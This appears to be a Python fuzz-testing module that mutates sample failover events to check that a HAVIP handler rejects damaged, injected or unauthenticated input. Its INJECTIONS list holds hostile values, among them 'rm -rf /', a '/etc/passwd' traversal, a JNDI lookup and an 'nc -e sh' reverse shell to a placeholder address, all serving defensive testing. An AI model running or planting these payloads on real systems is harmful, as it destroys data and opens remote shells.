"""The fuzz tier's deterministic mutator (`random.Random(seed)`) of the sample events in
events/: byte-level damage, structural damage of the JSON (and of the HTTP body inside an
HTTP-trigger envelope), injection characters in ids, token and method abuse."""

from __future__ import annotations

import base64
import json
import random
import urllib.parse
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

from havip_failover.sources import MAX_EVENT_BYTES
from tests.reliability._gen_base import EVENTS_DIR, SAMPLE_CALLBACK_TOKEN

INJECTIONS = (
    ";rm -rf /",
    "$(reboot)",
    "`id`",
    "../../../etc/passwd",
    "..\\..\\windows",
    "\n",
    "\r\nX-Injected: 1",
    "\x00",
    "\u202e",  # right-to-left override
    "\u200b",  # zero-width space
    "\ufeff",
    "\u0456-bp1master000000001",  # Cyrillic і: a lookalike of "i-bp1master…"
    "\uff49-bp1master000000001",  # fullwidth ｉ
    "i\u2010bp1master000000001",  # a hyphen lookalike
    "I-BP1MASTER000000001",
    " i-bp1master000000001 ",
    "%00",
    "' OR 1=1 --",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://x/a}",
    "|nc -e sh 1.2.3.4 1",
    "&&",
)
ID_KEYS = frozenset(
    {"InstanceId", "instanceId", "HaVipId", "haVipId", "resourceId", "RegionId", "regionId", "aliyunregionid"}
)


@dataclass
class FuzzCase:
    sample: str
    op: str
    data: bytes
    must_reject: bool = False
    expect_codes: frozenset[str] = frozenset()  # a rejection must carry one of these (when given)
    expect_status: frozenset[int] = frozenset()  # for HTTP envelopes (when given)
    names: str | None = None  # the rejection message must name this (when given)


# What a rejection's message must name, by operation (when the operation says it).
_OP_NAMES = {
    "token-missing": "token",
    "token-empty": "token",
    "token-wrong": "token",
    "token-header-wrong": "token",
    "token-list": "token",
    "method": "method",
    "body-type": "body",
    "headers-type": "headers",
    "content-type": "Content-Type",
    "base64-flag": "isBase64Encoded",
    "invalid-utf8": "utf-8",
    "oversize": "larger than",
    "deep-nesting": "nests",
    "deep-value": "nests",
    "body-form:inject-dimensions": "instanceId",
}


def _is_order(data: bytes) -> bool:
    """A JSON object with a manual order's markers and no other shape's (README: refused over HTTP)."""
    try:
        value = json.loads(data)
    except ValueError:
        return False
    others = ("specversion", "source", "type", "product", "alertState")
    return (
        isinstance(value, dict)
        and any(key in value for key in ("HaVipId", "InstanceId"))
        and not any(key in value for key in others)
    )


def _names_for(op: str) -> str | None:
    if op.startswith("body-json:inject-id:"):
        return op.rsplit(":", 1)[1]
    return _OP_NAMES.get(op)


# The GET (inspect) sample has no body and no event to mutate: its token and method handling are
# tested on their own (tests/unit/test_sources.py, tests/functional/test_entry.py).
NOT_FUZZED = frozenset({"expected.json", "http-inspect-get.json"})


def load_samples() -> list[tuple[str, bytes]]:
    return [(p.name, p.read_bytes()) for p in sorted(EVENTS_DIR.glob("*.json")) if p.name not in NOT_FUZZED]


def _paths(value: Any, prefix: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Every path (dict keys / list indexes) into a JSON value, the root excluded."""
    if isinstance(value, dict):
        for key, item in value.items():
            yield (*prefix, key)
            yield from _paths(item, (*prefix, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield (*prefix, index)
            yield from _paths(item, (*prefix, index))


def _get(value: Any, path: tuple[Any, ...]) -> Any:
    for part in path:
        value = value[part]
    return value


def _parent(value: Any, path: tuple[Any, ...]) -> Any:
    return _get(value, path[:-1])


class Mutator:
    """Deterministic mutations of the sample events (`random.Random(seed)`)."""

    def __init__(self, seed: int, samples: list[tuple[str, bytes]] | None = None) -> None:
        self.rng = random.Random(seed)
        self.samples = samples if samples is not None else load_samples()
        self.parsed = {name: json.loads(data) for name, data in self.samples}
        self._huge_cache: dict[str, bytes] = {}
        self.byte_ops: list[tuple[Callable[[str, bytes], FuzzCase], int]] = [
            (self.flip, 10),
            (self.truncate, 8),
            (self.invalid_utf8, 6),
            (self.random_bytes, 4),
            (self.splice, 4),
            (self.prefix_junk, 2),
            (self.oversize, 1),
            (self.deep_text, 2),
            (self.duplicate_key, 2),
        ]
        self.tree_ops: list[tuple[Callable[[str, Any], FuzzCase | None], int]] = [
            (self.delete_key, 10),
            (self.null_value, 6),
            (self.wrong_type, 12),
            (self.type_confusion, 6),
            (self.huge_string, 3),
            (self.deep_value, 3),
            (self.inject_id, 14),
            (self.inject_any, 6),
            (self.rename_key, 5),
            (self.add_key, 3),
            (self.body_mutation, 14),
            (self.http_abuse, 14),
            (self.random_json, 3),
        ]

    # -- driving ---------------------------------------------------------------------

    def cases(self, count: int) -> Iterator[FuzzCase]:
        byte_weight = sum(w for _, w in self.byte_ops)
        tree_weight = sum(w for _, w in self.tree_ops)
        for n in range(count):
            name, data = self.samples[n % len(self.samples)]
            case: FuzzCase | None = None
            while case is None:
                if self.rng.random() < byte_weight / (byte_weight + tree_weight):
                    op = self._pick(self.byte_ops)
                    case = op(name, data)
                else:
                    top = self._pick(self.tree_ops)
                    case = top(name, json.loads(data))
            if case.names is None:
                case.names = _names_for(case.op)
            yield case

    def _pick(self, ops: list[tuple[Any, int]]) -> Any:
        return self.rng.choices([op for op, _ in ops], weights=[w for _, w in ops])[0]

    def _dump(self, value: Any) -> bytes:
        return json.dumps(value, ensure_ascii=self.rng.random() < 0.5).encode("utf-8", "surrogatepass")

    @staticmethod
    def _is_http(value: Any) -> bool:
        return isinstance(value, dict) and isinstance(value.get("requestContext"), dict) and "headers" in value

    def _http_codes(self, value: Any, *statuses: int) -> frozenset[int]:
        return frozenset(statuses) if self._is_http(value) else frozenset()

    # -- byte-level ------------------------------------------------------------------

    def flip(self, name: str, data: bytes) -> FuzzCase:
        buf = bytearray(data)
        for _ in range(self.rng.randint(1, 8)):
            i = self.rng.randrange(len(buf))
            buf[i] ^= 1 << self.rng.randrange(8)
        return FuzzCase(name, "byte-flip", bytes(buf))

    def truncate(self, name: str, data: bytes) -> FuzzCase:
        cut = self.rng.randrange(0, max(1, len(data.rstrip()) - 1))
        return FuzzCase(name, "truncate", data[:cut], must_reject=True)

    def invalid_utf8(self, name: str, data: bytes) -> FuzzCase:
        bad = self.rng.choice(
            [b"\xff", b"\xfe", b"\xc3\x28", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\x80", b"\xc0\xaf"]
        )
        i = self.rng.randrange(len(data) + 1)
        return FuzzCase(
            name,
            "invalid-utf8",
            data[:i] + bad + data[i:],
            must_reject=True,
            expect_codes=frozenset({"InvalidEncoding"}),
        )

    def random_bytes(self, name: str, data: bytes) -> FuzzCase:
        n = self.rng.choice([0, 1, 2, 8, 64, 512, 4096])
        return FuzzCase("random", "random-bytes", self.rng.randbytes(n), must_reject=True)

    def splice(self, name: str, data: bytes) -> FuzzCase:
        i, j = sorted(self.rng.randrange(len(data) + 1) for _ in range(2))
        if self.rng.random() < 0.5:
            return FuzzCase(name, "delete-range", data[:i] + data[j:])
        k = self.rng.randrange(len(data) + 1)
        return FuzzCase(name, "duplicate-range", data[:k] + data[i:j] + data[k:])

    def prefix_junk(self, name: str, data: bytes) -> FuzzCase:
        junk = self.rng.choice([b"\x00", b"\x00\x00\x00", b")]}'\n", b"\x1b[2J", b"null", b"[", b"<?xml?>"])
        return FuzzCase(name, "prefix-junk", junk + data, must_reject=True)

    def oversize(self, name: str, data: bytes) -> FuzzCase:
        if name not in self._huge_cache:
            pad = MAX_EVENT_BYTES + 1 - len(data) + self.rng.randrange(1000)
            self._huge_cache[name] = data.rstrip() + b" " * pad
        return FuzzCase(
            name, "oversize", self._huge_cache[name], must_reject=True, expect_codes=frozenset({"EventTooLarge"})
        )

    def deep_text(self, name: str, data: bytes) -> FuzzCase:
        depth = self.rng.choice([33, 100, 1000, 50_000])
        opener, closer = self.rng.choice([("[", "]"), ('{"a":', "}")])
        text = (opener * depth + "1" + closer * depth).encode()
        return FuzzCase("synthetic", "deep-nesting", text, must_reject=True, expect_codes=frozenset({"NestingTooDeep"}))

    def duplicate_key(self, name: str, data: bytes) -> FuzzCase:
        text = data.decode("utf-8").rstrip()
        value = self.parsed[name]
        if not isinstance(value, dict) or not value:
            return self.flip(name, data)
        key = self.rng.choice(list(value))
        # a second, different value under the same key, appended at the end of the object
        dup = text[:-1].rstrip() + f', {json.dumps(key)}: "i-dup0000000000001"}}'
        return FuzzCase(
            name, "duplicate-key", dup.encode(), must_reject=True, expect_codes=frozenset({"DuplicateKey"}), names=key
        )

    # -- structural ------------------------------------------------------------------

    def _pick_path(
        self, value: Any, want: Callable[[Any, tuple[Any, ...]], bool] | None = None
    ) -> tuple[Any, ...] | None:
        paths = [p for p in _paths(value) if want is None or want(value, p)]
        return self.rng.choice(paths) if paths else None

    def delete_key(self, name: str, value: Any) -> FuzzCase | None:
        path = self._pick_path(value, lambda v, p: isinstance(_parent(v, p), dict))
        if path is None:
            return None
        del _parent(value, path)[path[-1]]
        return FuzzCase(name, "delete-key", self._dump(value))

    def null_value(self, name: str, value: Any) -> FuzzCase | None:
        path = self._pick_path(value)
        if path is None:
            return None
        _parent(value, path)[path[-1]] = self.rng.choice([None, "null", "NULL", "", " ", "None", "undefined"])
        return FuzzCase(name, "null-value", self._dump(value))

    def wrong_type(self, name: str, value: Any) -> FuzzCase | None:
        path = self._pick_path(value)
        if path is None:
            return None
        replacement = self.rng.choice(
            [0, -1, 1.5, 1e308, -0.0, 10**30, True, False, [], {}, [1, 2], {"a": 1}, "string", ["i-x"], {"id": 1}]
        )
        _parent(value, path)[path[-1]] = replacement
        return FuzzCase(name, "wrong-type", self._dump(value))

    def type_confusion(self, name: str, value: Any) -> FuzzCase | None:
        path = self._pick_path(value)
        if path is None:
            return None
        old = _get(value, path)
        if isinstance(old, bool):
            new: Any = self.rng.choice(["true", "false", "yes", 1, 0, "True", "FALSE", "1"])
        elif isinstance(old, (int, float)):
            new = self.rng.choice([str(old), f" {old} ", f"{old}e0", [old], str(old) + "x", -abs(old) - 1])
        elif isinstance(old, str):
            new = self.rng.choice(
                [[old], {"value": old}, len(old), old.encode().hex(), old.upper(), old * 3, old[: len(old) // 2]]
            )
        else:
            new = self.rng.choice([json.dumps(old), str(old), None])
        _parent(value, path)[path[-1]] = new
        return FuzzCase(name, "type-confusion", self._dump(value))

    def huge_string(self, name: str, value: Any) -> FuzzCase | None:
        path = self._pick_path(value)
        if path is None:
            return None
        size = self.rng.choice([10_000, 100_000, 600_000])
        _parent(value, path)[path[-1]] = self.rng.choice(["A", "i-a", "华", "\u202e", "%"]) * size
        return FuzzCase(name, "huge-string", self._dump(value))

    def deep_value(self, name: str, value: Any) -> FuzzCase | None:
        path = self._pick_path(value)
        if path is None:
            return None
        depth = self.rng.choice([33, 40, 200, 500])
        nested: Any = "i-bp1master000000001"
        for _ in range(depth):
            nested = [nested] if self.rng.random() < 0.5 else {"x": nested}
        _parent(value, path)[path[-1]] = nested
        # json.dumps itself recurses: keep it shallow enough for the encoder
        try:
            data = self._dump(value)
        except RecursionError:
            return None
        return FuzzCase(name, "deep-value", data, must_reject=True, expect_codes=frozenset({"NestingTooDeep"}))

    def _id_paths(self, value: Any) -> list[tuple[Any, ...]]:
        return [p for p in _paths(value) if p and p[-1] in ID_KEYS and isinstance(_get(value, p), str)]

    def inject_id(self, name: str, value: Any) -> FuzzCase | None:
        """An injection character in an id field (when the sample has one in its JSON tree)."""
        paths = self._id_paths(value)
        if not paths:
            return self.body_mutation(name, value)
        path = self.rng.choice(paths)
        old = _get(value, path)
        inj = self.rng.choice(INJECTIONS)
        new = self.rng.choice([old + inj, inj + old, old[:3] + inj + old[3:], inj])
        _parent(value, path)[path[-1]] = new
        return FuzzCase(name, f"inject-id:{path[-1]}", self._dump(value), names=str(path[-1]))

    def inject_any(self, name: str, value: Any) -> FuzzCase | None:
        path = self._pick_path(value, lambda v, p: isinstance(_get(v, p), str))
        if path is None:
            return None
        old = _get(value, path)
        _parent(value, path)[path[-1]] = old + self.rng.choice(INJECTIONS)
        return FuzzCase(name, "inject-any", self._dump(value))

    def rename_key(self, name: str, value: Any) -> FuzzCase | None:
        path = self._pick_path(value, lambda v, p: isinstance(_parent(v, p), dict))
        if path is None:
            return None
        parent = _parent(value, path)
        key = path[-1]
        new = self.rng.choice(
            [key.lower(), key.upper(), key + "s", key[1:] if len(key) > 1 else key + "x", key[::-1], key.swapcase()]
        )
        if len(key) > 2 and self.rng.random() < 0.3:
            i = self.rng.randrange(len(key) - 1)
            new = key[:i] + key[i + 1] + key[i] + key[i + 2 :]
        if new in parent:
            return None
        parent[new] = parent.pop(key)
        return FuzzCase(name, "rename-key", self._dump(value))

    def add_key(self, name: str, value: Any) -> FuzzCase | None:
        target = value
        if isinstance(value, list) and value:
            target = self.rng.choice(value)
        if not isinstance(target, dict):
            return None
        key = self.rng.choice(["__proto__", "constructor", "Force", "DryRun", "HaVipId", "extra", "", "\x00", "type"])
        target[key] = self.rng.choice([True, "true", 1, None, "havip-x;ls", {"$ne": 1}, ["x"]])
        return FuzzCase(name, "add-key", self._dump(value))

    def random_json(self, name: str, value: Any) -> FuzzCase | None:
        def gen(depth: int) -> Any:
            r = self.rng.random()
            if depth > 3 or r < 0.3:
                return self.rng.choice([None, True, 0, -5, 2.5, "", "x", "i-bp1master000000001", "havip-x", "ALERT"])
            if r < 0.65:
                return [gen(depth + 1) for _ in range(self.rng.randint(0, 4))]
            keys = [
                "type",
                "InstanceId",
                "instanceId",
                "healthy",
                "source",
                "specversion",
                "data",
                "alertState",
                "id",
                "k",
            ]
            return {self.rng.choice(keys): gen(depth + 1) for _ in range(self.rng.randint(0, 5))}

        return FuzzCase("synthetic", "random-json", self._dump(gen(0)))

    # -- the body inside an HTTP-trigger envelope ----------------------------------------

    def body_mutation(self, name: str, value: Any) -> FuzzCase | None:
        if not self._is_http(value) or not isinstance(value.get("body"), str):
            return self.inject_any(name, value)
        body = value["body"]
        if value.get("isBase64Encoded") is True:
            body = base64.b64decode(body).decode("utf-8")
        ctype = str(value["headers"].get("Content-Type", ""))
        op = "body"
        if "json" in ctype:
            inner = json.loads(body)
            sub = self.rng.choice(
                [self.delete_key, self.wrong_type, self.inject_id, self.null_value, self.type_confusion]
            )
            mutated = sub(name, inner) if sub != self.inject_id or self._id_paths(inner) else None
            if mutated is None:
                return None
            new_body = mutated.data.decode("utf-8", "surrogatepass")
            op += "-json:" + mutated.op
            if _is_order(mutated.data):
                # still an order (UnassociateHaVip's parameters): refused over HTTP by its shape,
                # before any field is read, so the refusal names no field
                op = "body-order:" + mutated.op
                value["body"] = (
                    base64.b64encode(new_body.encode("utf-8", "surrogatepass")).decode()
                    if value.get("isBase64Encoded") is True
                    else new_body
                )
                return FuzzCase(name, op, self._dump(value), expect_status=self._http_codes(value, 403))
        else:
            fields = urllib.parse.parse_qsl(body, keep_blank_values=True)
            if not fields:  # no body to mutate (a GET: inspect)
                return None
            i = self.rng.randrange(len(fields))
            key, old = fields[i]
            choice = self.rng.random()
            if choice < 0.25:
                del fields[i]
                op += "-form:delete"
            elif choice < 0.6 and key == "dimensions":
                inj = self.rng.choice(INJECTIONS)
                fields[i] = (
                    key,
                    old.replace(
                        "instanceId=i-",
                        "instanceId=i-" + inj if self.rng.random() < 0.5 else "instanceId=" + inj + "i-",
                    ),
                )
                op += "-form:inject-dimensions"
            elif choice < 0.8:
                fields[i] = (
                    key,
                    self.rng.choice(
                        [
                            "",
                            "null",
                            "\x00",
                            "9" * 400,
                            "华" * 50,
                            "ALERTX",
                            "{",
                            "}",
                            "{=}",
                            old + self.rng.choice(INJECTIONS),
                        ]
                    ),
                )
                op += "-form:value"
            else:
                fields.append((key, old + "-different"))
                op += "-form:repeat"
            new_body = urllib.parse.urlencode(fields)
        if value.get("isBase64Encoded") is True:
            new_body = base64.b64encode(new_body.encode("utf-8", "surrogatepass")).decode()
        value["body"] = new_body
        return FuzzCase(name, op, self._dump(value), expect_status=self._http_codes(value, 200, 202, 400, 500))

    def http_abuse(self, name: str, value: Any) -> FuzzCase | None:
        """Token, method, encoding and envelope abuse of an HTTP-trigger request."""
        if not self._is_http(value):
            return None  # another operation is drawn
        headers = value["headers"]
        query = value.setdefault("queryParameters", {}) if isinstance(value.get("queryParameters"), dict) else {}
        # A request still carrying an order is refused by its shape (403) once its body is read.
        body = value.get("body")
        handled = frozenset(
            {200, 202, 400, 500} | ({403} if isinstance(body, str) and _is_order(body.encode()) else set())
        )
        which = self.rng.choice(
            [
                "token-missing",
                "token-wrong",
                "token-wrong",
                "token-header-wrong",
                "token-list",
                "token-empty",
                "method",
                "base64-garbage",
                "base64-flag",
                "body-type",
                "content-type",
                "charset",
                "headers-type",
            ]
        )
        if which == "token-missing":
            query.pop("token", None)
            headers.pop("X-Havip-Token", None)
            return FuzzCase(
                name,
                which,
                self._dump(value),
                must_reject=True,
                expect_status=frozenset({401}),
                expect_codes=frozenset({"MissingCallbackToken"}),
            )
        if which == "token-empty":
            query["token"] = ""
            return FuzzCase(
                name,
                which,
                self._dump(value),
                must_reject=True,
                expect_status=frozenset({401}),
                expect_codes=frozenset({"MissingCallbackToken"}),
            )
        if which in ("token-wrong", "token-header-wrong"):
            good = SAMPLE_CALLBACK_TOKEN
            wrong = self.rng.choice(
                [
                    "x",
                    good[:-1],
                    good + "x",
                    good.upper(),
                    good[:-1] + chr(ord(good[-1]) + 1),
                    "a" * 64,
                    "a" * 4096,
                    good + "\x00",
                    good.replace("o", "\u043e"),  # Cyrillic o
                    " " + good,
                    self.rng.randbytes(12).hex(),
                ]
            )
            if which == "token-wrong":
                query["token"] = wrong
            else:
                headers["X-Havip-Token"] = wrong  # the query token stays right: both must be
            return FuzzCase(
                name,
                which,
                self._dump(value),
                must_reject=True,
                expect_status=frozenset({403}),
                expect_codes=frozenset({"InvalidCallbackToken"}),
            )
        if which == "token-list":
            query.pop("token", None)
            headers["X-Havip-Token"] = [SAMPLE_CALLBACK_TOKEN, "other"]
            return FuzzCase(name, which, self._dump(value), must_reject=True, expect_status=frozenset({403}))
        if which == "method":
            # (GET is inspect, a read-only view: not a method to refuse)
            method = self.rng.choice(["PUT", "DELETE", "HEAD", "OPTIONS", "PATCH", "", None, 123, "PO ST"])
            value["requestContext"]["http"]["method"] = method
            return FuzzCase(
                name,
                which,
                self._dump(value),
                must_reject=True,
                expect_status=frozenset({400, 405}),
                expect_codes=frozenset({"MethodNotAllowed", "MalformedHttpEvent"}),
            )
        if which == "base64-garbage":
            value["isBase64Encoded"] = True
            value["body"] = self.rng.choice(
                ["%%%not base64%%%", "YWJj=", "====", "\u00e9t\u00e9", base64.b64encode(b"\xff\xfe\x00").decode()]
            )
            return FuzzCase(name, which, self._dump(value), must_reject=True, expect_status=frozenset({400}))
        if which == "base64-flag":
            value["isBase64Encoded"] = self.rng.choice(["maybe", 1, [], {}, "yes"])
            return FuzzCase(name, which, self._dump(value), must_reject=True, expect_status=frozenset({400}))
        if which == "body-type":
            value["body"] = self.rng.choice([123, {"alertState": "ALERT"}, ["a"], True])
            return FuzzCase(name, which, self._dump(value), must_reject=True, expect_status=frozenset({400}))
        if which == "content-type":
            headers["Content-Type"] = self.rng.choice(
                ["text/xml", "multipart/form-data; boundary=x", "image/png", "application/x-www-form-urlencoded\x00"]
            )
            return FuzzCase(name, which, self._dump(value), expect_status=handled)
        if which == "charset":
            headers["Content-Type"] = "application/x-www-form-urlencoded; charset=" + self.rng.choice(
                ["bogus-9", "utf-32", "\u00e9", "x" * 300]
            )
            return FuzzCase(name, which, self._dump(value), expect_status=handled)
        value["headers"] = self.rng.choice(["x", 1, ["Content-Type"], None])
        # headers gone or unreadable: the query token may still be right. No headers at all is
        # a request like any other (refused, if it is, for another reason: nothing to name).
        op = which if value["headers"] is not None else "headers-absent"
        return FuzzCase(name, op, self._dump(value), expect_status=frozenset({200, 202, 400, 401, 403, 500}))
